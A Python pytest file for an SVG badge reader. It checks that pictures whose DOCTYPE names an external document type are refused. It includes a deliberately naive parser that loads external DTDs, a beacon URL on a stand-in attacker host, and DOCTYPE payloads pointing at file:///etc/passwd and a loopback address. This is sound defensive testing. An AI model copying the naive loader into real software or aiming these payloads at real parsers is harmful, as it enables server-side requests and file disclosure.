"""A document type that an SVG has from somewhere else.

Attack: the DOCTYPE of the picture names a file or a server, so that whoever reads it sends a packet there; what is
found there may declare anything.

Naively: the external subset is loaded, as XML says.

Here: nothing is ever loaded. The document types that drawing programs write, which name the W3C, are read over; any
other system or public identifier, and any entity that only the unread document type could declare, is
`image.svg-document-type`.
"""

from __future__ import annotations

from xml.parsers import expat

import pytest

from hostile_pictures import BADGE, ELEMENT, refusal, svg
from microcred.baking import unbake
from world import World

W3C = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
BEACON = "https://attacker.example/svg11.dtd"


def naive_loaded(image: bytes, world: World) -> None:
    """Read the picture, and load its document type."""

    def load(context: str | None, base: str | None, system: str, public: str | None) -> int:
        inner = parser.ExternalEntityParserCreate(context)
        inner.Parse(world.session().get(system, accept="*/*").body, True)
        return 1

    parser = expat.ParserCreate()
    parser.SetParamEntityParsing(expat.XML_PARAM_ENTITY_PARSING_ALWAYS)
    parser.ExternalEntityRefHandler = load
    parser.Parse(image, True)


def test_a_naive_reader_tells_the_attacker_that_it_is_reading() -> None:
    world = World({BEACON: b"<!ELEMENT svg ANY>"})
    naive_loaded(svg(before=f'<!DOCTYPE svg SYSTEM "{BEACON}">'), world)
    assert world.visits == [BEACON]


@pytest.mark.parametrize(
    "target", ["file:///etc/passwd", "http://127.0.0.1:9/", BEACON, "svg11.dtd", "//w3.org/", "https://www.w3.org.a.b/"]
)
def test_an_external_document_type_is_refused(target: str) -> None:
    assert refusal(svg(before=f'<!DOCTYPE svg SYSTEM "{target}">')) == "image.svg-document-type"


def test_another_public_identifier_is_refused() -> None:
    before = '<!DOCTYPE svg PUBLIC "-//Example//DTD Evil//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert refusal(svg(before=before)) == "image.svg-document-type"


@pytest.mark.parametrize("before", [W3C, "<!DOCTYPE svg>"])
def test_the_plain_document_type_that_drawing_programs_write_is_read_over(before: str) -> None:
    assert unbake(svg(before=before)) == BADGE


def test_an_entity_that_only_the_unread_document_type_could_declare_is_refused() -> None:
    assert refusal(svg(f"<text>&w3c;</text>{ELEMENT}", before=W3C)) == "image.svg-document-type"


def test_an_undeclared_entity_is_refused() -> None:
    assert refusal(svg(f"<text>&nobody;</text>{ELEMENT}")) == "image.svg-malformed"
